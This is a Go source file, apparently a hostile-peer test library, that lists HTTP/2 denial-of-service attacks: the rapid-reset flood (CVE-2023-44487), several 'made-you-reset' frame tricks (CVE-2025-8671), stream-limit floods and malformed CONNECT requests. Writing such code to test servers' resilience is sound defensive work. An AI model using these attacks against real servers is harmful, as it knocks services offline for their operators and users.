// SPDX-License-Identifier: Apache-2.0

package hostile

import "golang.org/x/net/http2"

const either = Client | Server

// resets make the peer set up streams and throw them away.
var resets = []Attack{
	// CVE-2023-44487: the stream is gone before it counts against MAX_CONCURRENT_STREAMS.
	{Name: "rapid-reset", By: Client, Do: func(p *Peer) {
		for p.More() {
			p.Reset(p.Open(Mute), http2.ErrCodeCancel)
		}
	}},
	// The same, but each stream is answered first, so that it is not known from the outside whether somebody was just in a hurry.
	{Name: "reset-after-answer", By: Client, Do: eachLive(func(p *Peer, id uint32) { p.Reset(id, http2.ErrCodeInternal) })},
	{Name: "reset-flood", By: either, Do: live(func(p *Peer, id uint32) {
		for p.More() {
			p.Reset(id, http2.ErrCodeCancel)
		}
	})},
	// CVE-2025-8671: the peer is led to reset, which costs it the same, and the attacker has reset nothing.
	{Name: "made-you-reset-by-increment", By: either, Do: each(func(p *Peer, id uint32) { p.Window(id, 0) })},
	{Name: "made-you-reset-by-overflow", By: either, Do: each(func(p *Peer, id uint32) { p.Window(id, 1<<31-1) })},
	{Name: "made-you-reset-by-priority", By: either, Do: each(func(p *Peer, id uint32) {
		p.Frame(http2.FramePriority, 0, id, []byte{byte(id >> 24), byte(id >> 16), byte(id >> 8), byte(id), 0})
	})},
	{Name: "made-you-reset-by-data-after-end", By: Client, Do: each(func(p *Peer, id uint32) {
		p.End(id)
		p.Data(id, []byte("more"))
	})},
	{Name: "made-you-reset-by-headers-after-end", By: Client, Do: each(func(p *Peer, id uint32) {
		p.Headers(id, http2.FlagHeadersEndStream, p.Block("a", "b"))
		p.Headers(id, http2.FlagHeadersEndStream, p.Block("a", "b"))
	})},
	{Name: "made-you-reset-by-bad-length", By: either, Do: each(func(p *Peer, id uint32) {
		p.Frame(http2.FramePriority, 0, id, []byte("four"))
	})},
	// A server that has no more room refuses, which is a reset too.
	{Name: "more-than-max-streams", By: Client, Do: func(p *Peer) {
		for p.More() {
			p.Open(Mute)
		}
	}},
	{Name: "malformed-requests", By: Client, Do: func(p *Peer) {
		for p.More() {
			p.Headers(p.Next(), http2.FlagHeadersEndStream, p.Block(":method", "CONNECT", ":path", "/"))
		}
	}},
	{Name: "bad-targets", By: Client, Do: func(p *Peer) {
		for p.More() {
			p.Headers(p.Next(), http2.FlagHeadersEndStream, p.Block(":method", "CONNECT", ":authority", "nowhere"))
		}
	}},
	// Refused by the user of the tunnel, not by the tunnel.
	{Name: "refused-targets", By: Client, Do: func(p *Peer) {
		for p.More() {
			p.Open(Refused)
			p.Asked()
		}
	}},
	// Streams that keep every rule, as fast as they come.
	{Name: "open-and-end", By: Client, Do: eachLive(func(p *Peer, id uint32) { p.End(id) })},
}
